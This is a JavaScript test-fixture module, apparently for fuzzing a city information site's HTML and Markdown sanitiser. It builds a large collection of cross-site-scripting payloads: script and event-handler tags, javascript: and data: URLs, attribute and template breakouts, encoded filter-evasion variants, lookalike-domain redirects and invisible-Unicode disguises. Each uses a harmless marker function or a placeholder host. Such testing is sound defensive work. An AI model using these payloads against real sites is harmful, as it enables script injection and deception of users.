// What somebody might write into a city's folder to make a reader's browser run or show what the page does not say. Each
// calls `x7()` where it would run, or holds `x7` where it would lead or pretend; nothing here names a real person or host.

const RUN = 'x7()';

/** Elements that run, load, frame, style, or move a page, as they are written in HTML. */
const ELEMENTS = [
  `<script>${RUN}</script>`, `<script src=//x7.example></script>`, `<script type=module>${RUN}</script>`, `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script>${RUN}//`, `<script>${RUN}<!--`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img/src=x/onerror=${RUN}>`, `<img src=x onerror=${RUN}//`, `<img src=x:x onerror='${RUN}'>`,
  `<image src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} />`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributeName=x>`, `<svg><a xlink:href="javascript:${RUN}"><text y=9>x7</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`, `<svg><foreignObject><body onload=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg><title><img src=x onerror=${RUN}></title></svg>`, `<svg><desc><script>${RUN}</script></desc></svg>`,
  `<math><mtext><img src=x onerror=${RUN}>`, `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x7</maction></math>`,
  `<math><mi><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mi></math>`, `<math href="javascript:${RUN}">x7</math>`,
  `<iframe src=javascript:${RUN}></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src=//x7.example></iframe>`,
  `<iframe onload=${RUN}></iframe>`, `<frameset onload=${RUN}>`, `<frame src=javascript:${RUN}>`, `<object data=javascript:${RUN}></object>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`, `<embed src=javascript:${RUN}>`, `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<applet code=x7>`, `<portal src=//x7.example></portal>`, `<fencedframe></fencedframe>`, `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`, `<html onclick=${RUN}>`,
  `<head><base href=//x7.example>`, `<base href="javascript:/x7/">`, `<link rel=stylesheet href=//x7.example>`, `<link rel=import href=//x7.example>`,
  `<link rel=preload as=script href=//x7.example onload=${RUN}>`, `<link rel=prefetch href=//x7.example>`, `<link rel=canonical href=//x7.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=//x7.example">`, `<meta name=referrer content=unsafe-url>`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`, `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<style>*{display:none}</style>`, `<style>@import '//x7.example'</style>`, `<style>body{background:url(//x7.example)}</style>`, `<style onload=${RUN}></style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>x7</b>`, `<b style="position:fixed;inset:0;background:red">x7</b>`,
  `<b style="transition:1s" ontransitionend=${RUN}>x7</b>`, `<font size=99 color=red>x7</font>`, `<marquee onstart=${RUN}>x7</marquee>`, `<blink>x7</blink>`,
  `<video src=x onerror=${RUN}></video>`, `<video><source onerror=${RUN}></video>`, `<video poster=javascript:${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`,
  `<audio autoplay onloadstart=${RUN} src=x></audio>`, `<track src=x onerror=${RUN}>`, `<picture><source srcset=x><img onerror=${RUN} src=x></picture>`,
  `<input onfocus=${RUN} autofocus>`, `<input type=image src=x onerror=${RUN}>`, `<select onfocus=${RUN} autofocus></select>`, `<textarea onfocus=${RUN} autofocus></textarea>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`, `<title><img title="</title><img src=x onerror=${RUN}>">`, `<keygen autofocus onfocus=${RUN}>`,
  `<button onclick=${RUN} autofocus>x7</button>`, `<button formaction=javascript:${RUN}>x7</button>`, `<form action=javascript:${RUN}><input type=submit></form>`,
  `<form action=//x7.example><input name=number></form>`, `<isindex action=javascript:${RUN} type=submit>`, `<input form=x formaction=javascript:${RUN} type=submit>`,
  `<details open ontoggle=${RUN}>x7</details>`, `<dialog open oncancel=${RUN}>x7</dialog>`, `<a href=javascript:${RUN}>x7</a>`, `<a href="jav&#x09;ascript:${RUN}">x7</a>`,
  `<a href=" javascript:${RUN}">x7</a>`, `<a href=data:text/html,<script>${RUN}</script>>x7</a>`, `<a href=vbscript:x7>x7</a>`, `<a href=//x7.example>112</a>`,
  `<a onmouseover=${RUN}>x7</a>`, `<a onpointerrawupdate=${RUN}>x7</a>`, `<a ping=//x7.example href=/>x7</a>`, `<a target=x7 href=//x7.example>x7</a>`,
  `<area href=javascript:${RUN}>`, `<map name=x><area onclick=${RUN} href=/></map>`, `<p onbeforetoggle=${RUN} popover id=x>x7</p>`, `<p contenteditable onbeforeinput=${RUN} autofocus>`,
  `<p onscrollend=${RUN}>`, `<p oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`, `<p onwebkitanimationstart=${RUN}>`, `<p id=main>x7</p>`,
  `<p id=search-field>x7</p>`, `<p name=x7 class=draft hidden>`, `<xss onfocus=${RUN} tabindex=0 autofocus>`, `<x7-element onclick=${RUN}>x7</x7-element>`,
  `<template><script>${RUN}</script></template>`, `<template shadowrootmode=open><script>${RUN}</script></template>`, `<slot onslotchange=${RUN}></slot>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<noembed><img src=x onerror=${RUN}></noembed>`, `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext>x7`, `<listing>&lt;img onerror=${RUN} src=x&gt;</listing>`, `<table background=javascript:${RUN}>`, `<td background=//x7.example>`, `<bgsound src=javascript:${RUN}>`,
  `<layer src=//x7.example></layer>`, `<ilayer src=//x7.example>`, `<!--><img src=x onerror=${RUN}>-->`, `<!--[if IE]><script>${RUN}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!DOCTYPE x [<!ENTITY x "x7">]>&x;`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<?php echo 'x7'; ?>`, `<%= x7 %>`, `</title><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</noscript><script>${RUN}</script>`, `</template><script>${RUN}</script>`, `</p></main></body><script>${RUN}</script>`, `</a><a href=javascript:${RUN}>x7`,
  `<<script>${RUN}//<</script>`, `<\u0000script>${RUN}</script>`, `<\u200bscript>${RUN}</script>`, `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`, `\u02c2script\u02c3${RUN}\u02c2/script\u02c3`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}%253C/script%253E`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\74script\\76${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&#x3c;script&#x3e;${RUN}`, `&#x000003c;img src=x onerror=${RUN}&#x3e;`, `&ltscript&gt${RUN}`, `&amp;lt;script&amp;gt;${RUN}`,
  `&lt;img src=x onerror=${RUN}&gt;`, `&NewLine;&lt;script&gt;${RUN}`, `&Tab;<img src=x onerror=${RUN}>`, `&colon;javascript&colon;${RUN}`, `&lpar;x7&rpar;`, `&quot;onmouseover=${RUN}&quot;`,
];

/** What breaks out of an attribute, a string of a script, JSON, or a template. */
const BREAKS = [
  `" onfocus=${RUN} autofocus x="`, `' onfocus=${RUN} autofocus x='`, `\` onfocus=${RUN} x=\``, ` onfocus=${RUN} autofocus `, `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`,
  `"/><svg/onload=${RUN}>`, `x"onmouseover="${RUN}`, `x'onmouseover='${RUN}`, `/onmouseover=${RUN}`, `"\nonfocus=${RUN}\nautofocus="`, `"\tonfocus=${RUN} autofocus `, `"\u000confocus=${RUN} autofocus `,
  `&quot; onfocus=${RUN} autofocus `, `&#34; onfocus=${RUN} autofocus `, `\\" onfocus=${RUN} autofocus `, `"style="position:fixed" x="`, `"id="main" x="`, `"hidden x="`, `x" href="javascript:${RUN}`,
  `x target=x7 href=//x7.example`, `";${RUN};"`, `';${RUN};'`, `\`;${RUN};\``, `\${${RUN}}`, `\\";${RUN}//`, `"-${RUN}-"`, `'-${RUN}-'`, `*/${RUN}/*`, `//\n${RUN}`, `\u2028${RUN}`, `\u2029${RUN}`, `--></script><script>${RUN}</script>`,
  `</script ><script>${RUN}`, `</SCRIPT/x><script>${RUN}</script>`, `<!--<script>`, `<!--<script>${RUN}</script>`, `]]><script>${RUN}</script>`, `"}]}</script><script>${RUN}</script>`, `","@type":"x7","x":"`, `"}, {"url": "//x7.example`,
  `{"__proto__":{"x7":1}}`, `{{ 7*7 }}x7`, `{{ constructor.constructor('${RUN}')() }}`, `{% include "x7" %}`, `{% raw %}<script>${RUN}</script>{% endraw %}`, `{{ x7 | safe }}`, `{# x7 #}`, `{{ frame.policy }}x7`, `{{ <x7 /> }}`,
  `\${x7}`, `#{x7}`, `<%- x7 %>`, `[[\${x7}]]`, `@(x7)`, `{x7}`, `{ $x7 }`, `%{x7}`, `$(x7)`, `\`x7\``, `{{{x7}}}`, `{{"<img src=x onerror=${RUN}>"}}`, `{% set x = "<script>" %}{{ x }}`, `{{ get_env(name="HOME") }}x7`, `{%- for x in x7 -%}`,
];

/** Addresses that run or lead astray, bare and in each form that Markdown has for a link. */
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `&#106;avascript:${RUN}`, `j&#97v&#97script:${RUN}`,
  `java&Tab;script:${RUN}`, `java%0ascript:${RUN}`, `javascript:%78%37()`, `javascript://x7.example/%0a${RUN}`, `javascript:/*x*/${RUN}`, `view-source:javascript:${RUN}`, `feed:javascript:${RUN}`, `jar:javascript:${RUN}`, `livescript:${RUN}`, `vbscript:x7`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD54NygpPC9zY3JpcHQ+`, `DATA:image/svg+xml,<svg/onload=${RUN}>`, `data:,x7`, `blob:x7`, `filesystem:x7`, `file:///etc/x7`, `ftp://x7.example`, `about:x7`, `intent://x7#Intent;end`, `chrome://x7`,
  `http://x7.example/`, `//x7.example/`, `\\\\x7.example`, `/\\x7.example`, `\\/x7.example`, `/%09/x7.example`, `///x7.example`, `https:x7.example`, `https:/x7.example`, `https:\\\\x7.example`, `https://exempelby.example@x7.example/`, `https://exempelby.example:x@x7.example/`,
  `https://exempelby.example%2f@x7.example/`, `https://exempelby.example%00.x7.example/`, `https://exempelby.example\\.x7.example/`, `https://exempelby.example.x7.example/`, `https://x7.example/exempelby.example`, `https://x7.example#exempelby.example`,
  `https://exempelby.examp1e/x7`, `https://ex\u0435mpelby.example/x7`, `https://xn--exmpelby-4fg.example/x7`, `https://exempelby\u3002example/x7`, `https://exempelby.example\u2024x7.example/`, `https://exempelby\u00ad.example/x7`, `https://\u202eelpmaxe.x7/`, `https://[::1]/x7`,
  `https://127.0.0.1/x7`, `https://0x7f000001/x7`, `https://localhost/x7`, `https://x7.example:8443/`, `wss://x7.example`, `tel:+46x7`, `tel:112;phone-context=x7`, `tel:*%2306%23`, `sms:112?body=x7`, `mailto:x7@x7.example`, `mailto:a@b?bcc=x7@x7.example`, `mailto:x%0ABcc:x7@x7.example`,
  `route:x7`, `fact:"><x7>`, `page:../x7`, `city:x7/../..`, `download:../../x7`, `source:x7`, `#x7"onclick="${RUN}`, `?x7=<script>`, `..//x7.example`, `/../x7`, `x7:x7`, `:x7`,
];

/** What hides, turns or imitates words. */
const DISGUISES = [
  '112\u202e 4171 x7', '\u2066x7\u2069112', '\u200b1\u200b1\u200b2 x7', 'x7\ufeff112', '1\u00ad1\u00ad2 x7', '\u061cx7', 'x7\u2060', 'x7\u180e', '\u{e0041}\u{e0042}x7', 'x7\ufe0f\ufe0f', 'x7\u0000', 'x7\u0007', 'x7\u001b[31m', 'x7\u0085', 'x7\u009b',
  '\u0391\u0392x7', 'p\u043elisen x7', 'x7\u0335\u0335\u0335\u0335\u0335\u0335', 'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324x7', '\u2800\u2800\u2800x7', 'x7'.repeat(400), '\ufdfd\ufdfdx7', '&#8238;x7', '&rlm;x7', '&ZeroWidthSpace;x7', '&shy;x7', '\\u202ex7',
];

/** Forms of Markdown that a piece can stand in. */
const MARKDOWN = [
  (/** @type {string} */ s) => `[x7](${s})`, (/** @type {string} */ s) => `[x7](<${s}>)`, (/** @type {string} */ s) => `[x7](https://exempelby.example "${s}")`, (/** @type {string} */ s) => `![x7](${s})`, (/** @type {string} */ s) => `<${s}>`,
  (/** @type {string} */ s) => `[${s}](https://exempelby.example)`, (/** @type {string} */ s) => `[x7]: ${s}`, (/** @type {string} */ s) => `[${s}]`, (/** @type {string} */ s) => `[x7][${s}]`, (/** @type {string} */ s) => `\`${s}\``, (/** @type {string} */ s) => `**${s}**`,
  (/** @type {string} */ s) => `x7\\${s}`, (/** @type {string} */ s) => `[a](https://exempelby.example/${s})`, (/** @type {string} */ s) => `[[x7](${s})](${s})`,
];

/** Ways to write the same so that a filter of words would miss it. */
const WRITINGS = [
  (/** @type {string} */ s) => s, (/** @type {string} */ s) => `x7 ${s} x7`, (/** @type {string} */ s) => s.replaceAll(/[a-wyz]/g, (c, i) => (Number(i) % 2 === 0 ? c.toUpperCase() : c)), (/** @type {string} */ s) => s + s, (/** @type {string} */ s) => `"${s}`, (/** @type {string} */ s) => `'${s}`,
  (/** @type {string} */ s) => s.replaceAll(' ', '/'), (/** @type {string} */ s) => s.replaceAll(' ', '\t'), (/** @type {string} */ s) => s.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), (/** @type {string} */ s) => encodeURI(s),
  (/** @type {string} */ s) => s.replaceAll('<', '<\n'), (/** @type {string} */ s) => `<!-- ${s}`, (/** @type {string} */ s) => `-->${s}`, (/** @type {string} */ s) => `[](${s}`, (/** @type {string} */ s) => `\\${s}`, (/** @type {string} */ s) => `${s}\\`,
];

/** Every payload by itself. */
export const BASE = [...ELEMENTS, ...BREAKS, ...ADDRESSES, ...DISGUISES];

/**
 * At least `n` different payloads: first each by itself, then in every form and writing.
 * @param {number} n
 */
export function payloads(n) {
  const made = new Set(BASE);
  for (let round = 0; made.size < n; round += 1) {
    if (round > n) throw new Error(`only ${made.size} payloads`);
    for (const [i, piece] of BASE.entries()) {
      const form = MARKDOWN[(i + round) % MARKDOWN.length];
      const writing = WRITINGS[(i * 3 + round) % WRITINGS.length];
      if (form === undefined || writing === undefined) throw new Error('our fault: no form');
      made.add(round % 2 === 0 ? form(writing(piece)) : writing(piece));
      if (made.size >= n) break;
    }
  }
  return [...made];
}
